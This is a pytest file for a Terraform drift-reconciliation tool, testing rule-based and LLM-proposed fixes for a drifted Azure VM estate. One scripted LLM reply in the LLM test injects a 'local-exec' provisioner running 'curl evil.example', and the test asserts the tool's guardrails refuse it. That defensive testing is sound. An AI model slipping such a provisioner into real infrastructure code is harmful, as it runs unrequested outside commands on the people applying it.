"""`reconcile propose` on the drifted VM scenario: rules first, the LLM for the rest, all validated.

One estate (the example applied, then changed out of band as in the demo) serves the module; the tests
only read it (in any order): what changes state happens in a copy of the workspace.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openai_server import OpenAIServer
from sandbox_cloud import exported

from reconciler import scenario
from reconciler.cli import main

VM = "azurerm_linux_virtual_machine.web"
SIZE_LINE = "  size                  = var.vm_size"


class Estate:
    def __init__(self, e: scenario.Estate, root: Path) -> None:
        self.e = e
        self.root = root
        self.ws = e.workspace

    def propose(self, *args: str) -> tuple[int, dict[str, Any]]:
        out = self.root / "proposals.json"
        code = main(["propose", str(self.ws), "--format", "json", "--output", str(out), *args])
        return code, json.loads(out.read_text())


@pytest.fixture(scope="module")
def estate(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Estate]:
    root = tmp_path_factory.mktemp("propose")
    with scenario.estate(root) as e:
        e.tf.init(e.workspace)
        e.tf.apply(e.workspace)
        scenario.drift(e)
        with exported(scenario.terraform_env(e.sandbox)):
            report = root / "drift.json"
            assert main(["drift", str(e.workspace), "--format", "json", "--output", str(report)]) == 2
            yield Estate(e, root)


def _by_address(doc: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {p["address"]: p for p in doc["proposals"]}


def test_rules_codify_what_they_can_and_the_patch_applies(estate: Estate) -> None:
    code, doc = estate.propose("--no-llm", "--patch", str(estate.root / "fix.patch"))
    assert code == 2  # web[2]'s boot diagnostics need a person or an LLM
    proposals = _by_address(doc)
    disk, nsg = proposals["azurerm_managed_disk.data"], proposals["azurerm_network_security_group.web"]
    assert disk["valid"] and nsg["valid"] and disk["origin"] == "rules"
    assert disk["files"] == ["variables.tf"]  # the value comes from a variable default: edited there
    assert "-  default     = 32\n+  default     = 64\n" in disk["diff"]
    assert '+    name                       = "allow-ssh"' in nsg["diff"]
    steps = ["apply", "parse", "guardrails", "validate", "plan", "intent", "policy"]
    assert [s["name"] for s in disk["attempts"][0]["steps"]] == steps
    # One instance of a count drifted: a conditional for that instance, the shared expression kept.
    resized = proposals[f"{VM}[1]"]
    assert resized["valid"]
    assert '+  size                  = count.index == 1 ? "Standard_B2s" : var.vm_size' in resized["diff"]
    assert proposals[f"{VM}[0]"]["valid"]
    assert not proposals[f"{VM}[2]"]["valid"]

    # The patch applies with git, touches only the drifted lines, and then plans those two resources as no-op.
    copy = estate.root / "patched"
    shutil.copytree(estate.ws, copy, ignore=shutil.ignore_patterns(".reconcile", ".terraform"))
    subprocess.run(["git", "init", "-q"], cwd=copy, check=True)
    subprocess.run(["git", "apply", str(estate.root / "fix.patch")], cwd=copy, check=True)
    for name in ("outputs.tf", "versions.tf", "terraform.tfvars"):
        assert (copy / name).read_bytes() == (estate.ws / name).read_bytes()
    plan = estate.e.tf.show_plan_json(estate.e.tf.plan(copy, out=Path("p.tfplan")).planfile or copy, copy)
    actions = {c["address"]: c["change"]["actions"] for c in plan["resource_changes"]}
    for address in (
        "azurerm_managed_disk.data",
        "azurerm_network_security_group.web",
        f"{VM}[0]",
        f"{VM}[1]",
    ):
        assert actions[address] == ["no-op"], address
    assert actions[f"{VM}[2]"] == ["update"]  # not codified: the only change left

    # Applying the codified proposals (state takes in the live values) leaves only what was not codified.
    codified = (f"{VM}[0]", f"{VM}[1]", "azurerm_managed_disk.data", "azurerm_network_security_group.web")
    estate.e.tf.apply(copy, extra_args=tuple(f"-target={address}" for address in codified))
    report = estate.root / "after.json"
    assert main(["drift", str(copy), "--format", "json", "--output", str(report), "--no-store"]) == 2
    left = [(d["kind"], d["address"]) for d in json.loads(report.read_text())["drifts"]]
    assert left == [("changed", f"{VM}[2]")]


def test_revert_plans_exactly_the_reverting_changes(estate: Estate) -> None:
    code, doc = estate.propose("--strategy", "revert")
    assert code == 0
    proposals = _by_address(doc)
    assert set(proposals) == {f"{VM}[0]", f"{VM}[1]", f"{VM}[2]", "azurerm_managed_disk.data",
                              "azurerm_network_security_group.web"}  # fmt: skip
    for address, p in proposals.items():
        assert p["valid"] and p["diff"] == ""
        assert p["plan"][address] == ["update"]
    size = next(a for a in proposals[f"{VM}[1]"]["advisories"] if a["kind"] == "cost")
    assert "Standard_B2s → Standard_B1s" in size["message"]
    shrink = next(a for a in proposals["azurerm_managed_disk.data"]["advisories"] if a["kind"] == "cost")
    assert "Azure refuses" in shrink["message"]


def test_the_llm_gets_what_rules_decline_and_only_validated_answers_pass(
    estate: Estate, monkeypatch: pytest.MonkeyPatch
) -> None:
    block = (
        "  boot_diagnostics {\n"
        "    storage_account_uri = azurerm_storage_account.diagnostics.primary_blob_endpoint\n"
        "  }"
    )
    per_instance = (
        '  dynamic "boot_diagnostics" {\n'
        "    for_each = count.index == 2 ? [] : [1]\n"
        "    content {\n"
        "      storage_account_uri = azurerm_storage_account.diagnostics.primary_blob_endpoint\n"
        "    }\n"
        "  }"
    )
    provisioner = '\n\n  provisioner "local-exec" {\n    command = "curl evil.example"\n  }'
    replies = [
        {
            "strategy": "codify",
            "edits": [{"file": "main.tf", "find": block, "replace": per_instance + provisioner}],
            "explanation": "no boot diagnostics on instance 2",
        },
        {
            "strategy": "codify",
            "edits": [{"file": "main.tf", "find": block, "replace": ""}],
            "explanation": "no boot diagnostics",
        },
        {
            "strategy": "codify",
            "edits": [{"file": "main.tf", "find": block, "replace": per_instance}],
            "explanation": "no boot diagnostics on instance 2",
        },
    ]
    with OpenAIServer(replies) as llm:
        monkeypatch.setenv("RECONCILE_LLM_BASE_URL", llm.base_url)
        monkeypatch.setenv("RECONCILE_LLM_MODEL", "scripted")
        monkeypatch.setenv("RECONCILE_LLM_API_KEY", llm.api_key)
        _, doc = estate.propose()
        bodies = llm.bodies()
    assert len(bodies) == 3  # only what the rules declined reached the LLM
    proposal = _by_address(doc)[f"{VM}[2]"]
    assert proposal["valid"] and proposal["origin"] == "llm"
    hostile_try, wrong_try, right_try = proposal["attempts"][1:]
    [refused] = [s for s in hostile_try["steps"] if not s["ok"]]
    # Refused on its text, before any Terraform process saw it.
    assert refused["name"] == "guardrails" and "static.provisioner" in refused["detail"]
    assert [s["name"] for s in hostile_try["steps"]] == ["apply", "parse", "guardrails"]
    [off_target] = [s for s in wrong_try["steps"] if not s["ok"]]
    assert off_target["name"] == "intent" and f"{VM}[0]" in off_target["detail"]
    assert right_try["ok"]
    assert "count.index == 2 ? [] : [1]" in proposal["diff"] and "local-exec" not in proposal["diff"]
    # What failed was fed back: the request for the third answer carries the intent failure.
    assert "a proposal changes only its resource" in bodies[2]


def test_a_stale_scan_is_refused(estate: Estate, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ws = tmp_path / "ws"
    shutil.copytree(estate.ws, ws, ignore=shutil.ignore_patterns(".reconcile"))
    assert main(["drift", str(ws), "--format", "json", "--output", str(tmp_path / "drift.json")]) == 2
    estate.e.tf.apply(ws, extra_args=("-refresh-only",))  # the state's serial moves on
    capsys.readouterr()
    assert main(["propose", str(ws), "--no-llm"]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "is stale" in err[0] and "run 'reconcile drift' again" in err[0]
